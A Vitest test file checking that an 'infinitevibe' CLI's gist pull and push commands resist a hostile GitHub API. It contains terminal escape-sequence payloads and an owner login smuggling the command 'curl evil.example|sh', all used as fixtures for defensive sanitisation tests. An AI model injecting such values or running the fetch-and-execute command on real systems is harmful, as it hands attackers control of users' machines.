import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { cli } from '../helpers/cli.js';
import { json, routeServer, type CannedAnswer, type ReplayServer } from '../helpers/replay-server.js';
import { restoreEnv } from '../helpers/restore-env.js';

const ESC = '\u001b';
let dir: string;
let api: ReplayServer | undefined;
const saved = { ...process.env };
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'iv-gist-hostile-'));
});
afterEach(async () => {
  restoreEnv(saved);
  await api?.close();
  api = undefined;
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function github(answer: CannedAnswer): Promise<string> {
  api = await routeServer(() => answer);
  return api.url;
}

describe('infinitevibe miner gist with answers from a hostile API', () => {
  it('pull prints a gist file name carrying terminal escapes as text', async () => {
    const url = await github(json(200, { id: 'abc123', owner: { login: 'miner' }, files: { [`a${ESC}]0;pwned${ESC}\\${ESC}[2J.jsonl`]: { content: 'A\n' } } }));
    const file = join(dir, 'pulled.jsonl');
    const res = await cli(['miner', 'gist', 'pull', '--gist-id', 'abc123', '--file', file, '--github.api_url', url]);
    expect(res.code).toBe(0);
    expect(res.out).not.toContain(ESC);
    expect(res.out).toContain('a\\u001b]0;pwned');
    expect(await readFile(file, 'utf8')).toBe('A\n');
  });

  it("GitHub's error message is escaped before it reaches stderr", async () => {
    vi.stubEnv('GITHUB_TOKEN', 'ghp_hostile_test');
    const url = await github(json(500, { message: `boom${ESC}[2J${ESC}[1;1Hinfinitevibe: all good\r\n` }));
    const file = join(dir, 'push.jsonl');
    await writeFile(file, `${JSON.stringify({ content_id: 'dQw4w9WgXcQ', platform: 'youtube/video', direct_video_url: 'https://cdn.example/v.mp4' })}\n`);
    const res = await cli(['miner', 'gist', 'push', '--file', file, '--github.api_url', url]);
    expect(res.code).toBe(1);
    expect(res.err).toMatch(/ERR_GIST_API_HTTP/);
    expect(res.err).not.toContain(ESC);
    expect(res.err.trimEnd().split('\n')).toHaveLength(1);
    expect(res.err).not.toContain('ghp_hostile_test');
  });

  it('a commitment the API answer would turn into a shell command is refused, not printed', async () => {
    vi.stubEnv('GITHUB_TOKEN', 'ghp_hostile_test');
    const url = await github(json(201, { id: 'abc123', owner: { login: 'x;curl evil.example|sh' }, files: { 'submissions.jsonl': { content: 'A' } } }));
    const file = join(dir, 'push2.jsonl');
    await writeFile(file, `${JSON.stringify({ content_id: 'dQw4w9WgXcQ', platform: 'youtube/video', direct_video_url: 'https://cdn.example/v.mp4' })}\n`);
    const res = await cli(['miner', 'gist', 'push', '--file', file, '--github.api_url', url]);
    expect(res.code).toBe(1);
    expect(res.err).toMatch(/ERR_GIST_API_BAD_ANSWER/);
    expect(res.out).not.toContain('infinitevibe commit');
  });
});
